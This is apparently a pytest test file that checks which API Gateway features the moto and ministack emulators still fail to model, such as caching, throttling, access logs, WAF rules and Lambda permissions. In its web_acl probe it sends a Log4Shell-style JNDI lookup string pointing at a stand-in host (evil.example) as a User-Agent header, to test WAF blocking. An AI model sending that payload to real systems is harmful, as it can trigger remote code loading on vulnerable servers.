"""What no application shows of the emulators' gaps, asked for by itself: each of these fails when its gap closes."""

from __future__ import annotations

import json
from collections.abc import Callable
from typing import Any

import pytest
from botocore.exceptions import ClientError
from botocore.parsers import ResponseParserError

from emulators import Name
from requests_to import send
from tests.emulators.callers import ROOT
from tests.emulators.gaps import NOT_MODELLED, NOWHERE
from tests.emulators.site import Site

CALLERS, CHAT, CRUD, JWT, SERVICES = (
    f"{name}-ministack" for name in ("callers", "websocket-chat", "rest-crud", "http-jwt", "rest-service-integrations")
)

CALLS: dict[str, Callable[[Any, str], Any]] = {
    "aws_api_gateway_client_certificate": lambda gateway, _api: gateway.generate_client_certificate(),
    "aws_api_gateway_documentation_version": lambda gateway, api: gateway.create_documentation_version(
        restApiId=api, documentationVersion="1"
    ),
    "aws_api_gateway_domain_name_access_association": lambda gateway, _api: (
        gateway.create_domain_name_access_association(
            domainNameArn="arn:aws:apigateway:eu-central-1::/domainnames/probe.example+abc123",
            accessAssociationSource="vpce-0123456789abcdef0",
            accessAssociationSourceType="VPCE",
        )
    ),
}


def no_such_call(error: ClientError) -> bool:
    """Whether a refusal is that of a path which the emulator does not know, and of nothing that was asked."""
    message = str(error)
    unknown = "Unknown path" in message or "Unknown API Gateway" in message or "requested URL was not found" in message
    return unknown and error.response["ResponseMetadata"]["HTTPStatusCode"] == 404


@pytest.mark.application(CALLERS)
@pytest.mark.parametrize("name", ["moto", "ministack"])
@pytest.mark.parametrize("resource_type", sorted(NOWHERE))
def test_what_is_nowhere_is_on_neither(resource_type: str, name: Name, site: Site) -> None:
    gateway = site.server(name).client("apigateway")
    api = gateway.create_rest_api(name="probe")["id"]
    try:
        with pytest.raises((ClientError, ResponseParserError)) as refused:
            CALLS[resource_type](gateway, api)
    finally:
        gateway.delete_rest_api(restApiId=api)
    # moto's page for a path that it does not know is no answer that could be parsed.
    assert isinstance(refused.value, ResponseParserError) or no_such_call(refused.value), refused.value


# What ministack accepts and does not do


def caching(site: Site) -> bool:
    """A stage with a cache cluster has a status to wait for."""
    gateway = site.server("ministack").client("apigateway")
    api = gateway.create_rest_api(name="probe")["id"]
    try:
        root = gateway.get_resources(restApiId=api)["items"][0]["id"]
        gateway.put_method(restApiId=api, resourceId=root, httpMethod="GET", authorizationType="NONE")
        gateway.put_integration(restApiId=api, resourceId=root, httpMethod="GET", type="MOCK")
        deployment = gateway.create_deployment(restApiId=api)["id"]
        gateway.create_stage(
            restApiId=api, stageName="prod", deploymentId=deployment, cacheClusterEnabled=True, cacheClusterSize="0.5"
        )
        return "cacheClusterStatus" in gateway.get_stage(restApiId=api, stageName="prod")
    finally:
        gateway.delete_rest_api(restApiId=api)


def deployments(site: Site) -> bool:
    """A method that was made after the deployment is not served before the next one."""
    deployed = site.shown(CALLERS).deployed
    gateway, api = deployed.server.client("apigateway"), deployed.outputs["rest_api_id"]
    parts = {part["path"]: part["id"] for part in gateway.get_resources(restApiId=api, limit=500)["items"]}
    new = gateway.create_resource(restApiId=api, parentId=parts["/open"], pathPart="late")["id"]
    try:
        gateway.put_method(restApiId=api, resourceId=new, httpMethod="GET", authorizationType="NONE")
        gateway.put_integration(
            restApiId=api,
            resourceId=new,
            httpMethod="GET",
            type="MOCK",
            requestTemplates={"application/json": json.dumps({"statusCode": 200})},
        )
        gateway.put_integration_response(restApiId=api, resourceId=new, httpMethod="GET", statusCode="200")
        return send("GET", deployed.server.invoke_url(api, "prod", "/open/late")).status == 403
    finally:
        gateway.delete_resource(restApiId=api, resourceId=new)


def dynamodb_by_template(site: Site) -> bool:
    """A mapping template that calls DynamoDB reaches the table."""
    deployed = site.shown(SERVICES).deployed
    order = json.dumps({"customer": "ada", "item": "milk", "quantity": 1})
    url = deployed.server.invoke_url(deployed.outputs["api_id"], "prod", "/orders/1")
    return ROOT.send("PUT", url, order).status != 504


def directives_of_templates(site: Site) -> bool:
    """A response template of a MOCK that sets a header sets it."""
    deployed = site.shown(CALLERS).deployed
    origin = "https://one.example.com"
    url = deployed.server.invoke_url(deployed.outputs["rest_api_id"], "prod", "/open/ada")
    answer = send("OPTIONS", url, headers={"Origin": origin, "Access-Control-Request-Method": "GET"})
    return answer.headers["Access-Control-Allow-Origin"] == origin


def throttling_of_http_apis(site: Site) -> bool:
    """A burst above the limit of a stage is answered with 429."""
    deployed = site.shown(CALLERS).deployed
    gateway, api = deployed.server.client("apigatewayv2"), deployed.outputs["http_api_id"]
    before = gateway.get_stage(ApiId=api, StageName="$default")["DefaultRouteSettings"]
    try:
        limit = {**before, "ThrottlingBurstLimit": 1, "ThrottlingRateLimit": 1.0}
        gateway.update_stage(ApiId=api, StageName="$default", DefaultRouteSettings=limit)
        url = deployed.server.invoke_url(api, "$default", "/nothing")
        return 429 in {send("GET", url).status for _ in range(20)}
    finally:
        gateway.update_stage(ApiId=api, StageName="$default", DefaultRouteSettings=before)


def web_acl(site: Site) -> bool:
    """A request that the managed group of known bad inputs blocks does not reach the API."""
    deployed = site.shown(CRUD).deployed
    url = deployed.server.invoke_url(deployed.outputs["api_id"], "prod", "/users")
    answer = send("GET", url, headers={"User-Agent": "${jndi:ldap://evil.example/a}"})
    return answer.status != 401  # the authorizer's word, which a blocked request never gets


def access_logs(site: Site) -> bool:
    """A request leaves a line in the group of the access log."""
    deployed = site.shown(CALLERS).deployed
    send("GET", deployed.server.invoke_url(deployed.outputs["rest_api_id"], "prod", "/health"))
    logs = deployed.server.client("logs")
    prefix = "/aws/vendedlogs/apigateway/callers-rest"
    (group,) = logs.describe_log_groups(logGroupNamePrefix=prefix)["logGroups"]
    return bool(logs.describe_log_streams(logGroupName=group["logGroupName"])["logStreams"])


def permissions_of_functions(site: Site) -> bool:
    """A function that does not permit the API to call it is not called."""
    deployed = site.shown(CALLERS).deployed
    functions, api = deployed.server.client("lambda"), deployed.outputs["rest_api_id"]
    statements = json.loads(functions.get_policy(FunctionName="callers-echo")["Policy"])["Statement"]
    for statement in statements:
        functions.remove_permission(FunctionName="callers-echo", StatementId=statement["Sid"])
    # Last of the probes: the permissions are not put back.
    return send("GET", deployed.server.invoke_url(api, "prod", "/open/ada")).status != 200


PROBES: dict[str, tuple[Callable[[Site], bool], str]] = {
    "access logs": (access_logs, CALLERS),
    "caching": (caching, CALLERS),
    "deployments": (deployments, CALLERS),
    "directives of mapping templates": (directives_of_templates, CALLERS),
    "DynamoDB by mapping template": (dynamodb_by_template, SERVICES),
    "throttling of HTTP APIs": (throttling_of_http_apis, CALLERS),
    "web ACLs": (web_acl, CRUD),
    "permissions of functions": (permissions_of_functions, CALLERS),
}


@pytest.mark.parametrize(
    "what", [pytest.param(what, marks=pytest.mark.application(key)) for what, (_, key) in PROBES.items()]
)
def test_what_is_not_modelled_is_still_not(what: str, site: Site) -> None:
    probe, _ = PROBES[what]
    assert not probe(site), f"ministack models {what} now: prove it by requests, and take it out of NOT_MODELLED"


def test_everything_that_is_not_modelled_is_asked_for() -> None:
    assert set(PROBES) == set(NOT_MODELLED)
    assert set(CALLS) == set(NOWHERE)
